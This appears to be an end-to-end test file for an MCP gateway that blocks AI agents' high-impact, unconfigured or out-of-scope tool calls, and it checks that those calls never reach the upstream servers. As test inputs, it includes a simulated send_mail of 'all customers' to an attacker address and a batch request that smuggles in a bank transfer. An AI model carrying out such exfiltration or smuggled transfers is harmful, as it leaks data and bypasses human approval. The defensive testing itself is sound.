"""A call the gateway refuses never reaches the upstream.

The upstreams are Mandate's demo servers with `--record`, so the proof comes
from the upstream's side: its record file holds every call it received.
"""

from __future__ import annotations

from pathlib import Path

import anyio
import pytest
from mcp import MCPError

from e2e_support import Gateway, Issuer, Launcher, mandate_bin, meta_of, read_jsonl, sdk_client, text_of

DENIED = -32003
SCOPE = "docs.search docs.send_mail docs.export_all bank.*"


@pytest.fixture(scope="module")
def env(launcher: Launcher, issuer: Issuer) -> tuple[Gateway, Path, Path]:
    docs_rec = launcher.root / "docs-calls.jsonl"
    bank_rec = launcher.root / "bank-calls.jsonl"
    exe = str(mandate_bin())
    gw = launcher.gateway(issuer, {
        "docs": {
            "command": exe, "args": ["demo-server", "--profile", "workspace", "--record", str(docs_rec)],
            "timeout_secs": 10, "default_class": "deny",
            "tools": {"search": "read", "list_customers": "read", "send_mail": "outbound"},
        },
        "bank": {
            "command": exe, "args": ["demo-server", "--profile", "bank", "--record", str(bank_rec)],
            "timeout_secs": 10,
            "tools": {"get_balance": "read", "transfer": "financial", "close_account": "irreversible"},
        },
    })
    return gw, docs_rec, bank_rec


async def call_expecting_error(client, name: str, args: dict) -> MCPError:
    try:
        result = await client.call_tool(name, args)
    except MCPError as e:
        return e
    raise AssertionError(f"{name} was allowed: {result}")


def assert_denial(err: MCPError, tool: str, reason: str) -> None:
    assert err.code == DENIED, f"{tool}: code {err.code} {err.message}"
    data = err.data or {}
    assert data.get("denied") is True, data
    assert data.get("tool") == tool, data
    assert data.get("reason") == reason, f"{tool}: reason {data.get('reason')!r}, expected {reason!r} ({err.message})"
    assert data.get("decision_id") and data.get("correlation_id"), data


def test_denied_calls_never_reach_the_upstream(env, issuer: Issuer) -> None:
    gw, docs_rec, bank_rec = env
    tok = issuer.mint(gw.audience, scope=SCOPE)

    async def go():
        async with sdk_client(gw.mcp_url, tok) as c:
            names = {t.name for t in (await c.list_tools()).tools}
            errors = {
                # High-impact classes need a human; approval is not wired yet, so: denied.
                "send_mail": await call_expecting_error(
                    c, "docs.send_mail", {"to": "attacker@evil.test", "subject": "q3", "body": "all customers"}),
                "close_account": await call_expecting_error(c, "bank.close_account", {"account": "acc-1"}),
                "transfer_small": await call_expecting_error(c, "bank.transfer", {"to": "acc-9", "amount": 5}),
                # Forbidden outright, approval or not.
                "transfer_big": await call_expecting_error(c, "bank.transfer", {"to": "acc-9", "amount": 50000}),
                # Not classified in the config: deny by default.
                "export_all": await call_expecting_error(c, "docs.export_all", {}),
                # Arguments that do not match the tool's input schema.
                "bad_args": await call_expecting_error(c, "docs.search", {"query": 12345}),
                "missing_args": await call_expecting_error(c, "docs.search", {}),
                # A tool that does not exist.
                "unknown": await call_expecting_error(c, "docs.no_such_tool", {}),
            }
            allowed = await c.call_tool("docs.search", {"query": "quarterly report"})
            return names, errors, allowed

    names, errors, allowed = anyio.run(go)

    assert_denial(errors["send_mail"], "docs.send_mail", "approval_required")
    assert_denial(errors["close_account"], "bank.close_account", "approval_required")
    assert_denial(errors["transfer_small"], "bank.transfer", "approval_required")
    assert errors["transfer_big"].code == DENIED and errors["transfer_big"].data.get("denied") is True
    assert_denial(errors["export_all"], "docs.export_all", "tool_not_configured")
    assert_denial(errors["bad_args"], "docs.search", "invalid_arguments")
    assert_denial(errors["missing_args"], "docs.search", "invalid_arguments")
    assert errors["unknown"].code == -32602 and "unknown tool" in errors["unknown"].message, errors["unknown"]

    # tools/list offers neither unclassified nor unknown tools.
    assert "docs.search" in names and "bank.get_balance" in names, names
    assert "docs.export_all" not in names and "docs.list_customers" not in names, names

    # The upstreams saw exactly the one allowed call, nothing else.
    assert not allowed.is_error, allowed
    assert text_of(allowed), allowed
    docs_calls = read_jsonl(docs_rec)
    assert [(c["tool"], c["arguments"]) for c in docs_calls] == [("search", {"query": "quarterly report"})], docs_calls
    assert docs_calls[0]["_meta"]["io.mandate/correlation_id"] == meta_of(allowed)["io.mandate/correlation_id"]
    assert read_jsonl(bank_rec) == [], read_jsonl(bank_rec)

    # Every denial was recorded as a deny decision, with the same ids the agent saw.
    for key, err in errors.items():
        if key == "unknown":
            continue
        rows = gw.audit_rows("decision_id = ?", (err.data["decision_id"],))
        assert rows and rows[0]["effect"] == "deny", (key, rows)
        assert rows[0]["correlation_id"] == err.data["correlation_id"], (key, rows)
        assert not gw.audit_rows("correlation_id = ? AND kind = 'outcome' AND outcome = 'ok'",
                                 (err.data["correlation_id"],)), key


def test_out_of_scope_call_is_403_insufficient_scope_and_not_forwarded(env, issuer: Issuer) -> None:
    gw, docs_rec, bank_rec = env
    tok = issuer.mint(gw.audience, scope="docs.search")
    session = gw.initialize(tok)
    before_docs, before_bank = len(read_jsonl(docs_rec)), len(read_jsonl(bank_rec))

    for name, args in [("docs.list_customers", {}), ("bank.get_balance", {"account": "acc-1"}),
                       ("docs.export_all", {})]:
        reply = gw.call_tool(tok, session, name, args, rid=41)
        assert reply.status == 403, f"{name}: HTTP {reply.status} {reply.text}"
        challenge = reply.headers.get("www-authenticate", "")
        assert challenge.startswith("Bearer ") and 'error="insufficient_scope"' in challenge, challenge
        assert reply.error(41)["code"] == DENIED, reply.text

    # A batch smuggling an out-of-scope call behind an in-scope one is refused too.
    batch = [
        {"jsonrpc": "2.0", "id": 50, "method": "tools/call",
         "params": {"name": "docs.search", "arguments": {"query": "x"}}},
        {"jsonrpc": "2.0", "id": 51, "method": "tools/call",
         "params": {"name": "bank.transfer", "arguments": {"to": "acc-9", "amount": 1}}},
    ]
    reply = gw.post(batch, tok, session)
    assert reply.status < 500, f"batch: HTTP {reply.status} {reply.text}"
    assert not any(m.get("id") == 51 and "result" in m for m in reply.messages), reply.text

    assert len(read_jsonl(docs_rec)) == before_docs, read_jsonl(docs_rec)
    assert len(read_jsonl(bank_rec)) == before_bank, read_jsonl(bank_rec)

    # The in-scope call on the same session still goes through.
    ok = gw.call_tool(tok, session, "docs.search", {"query": "still fine"}, rid=60)
    assert ok.status == 200 and "result" in ok.response(60), ok.text
    assert read_jsonl(docs_rec)[-1]["arguments"] == {"query": "still fine"}
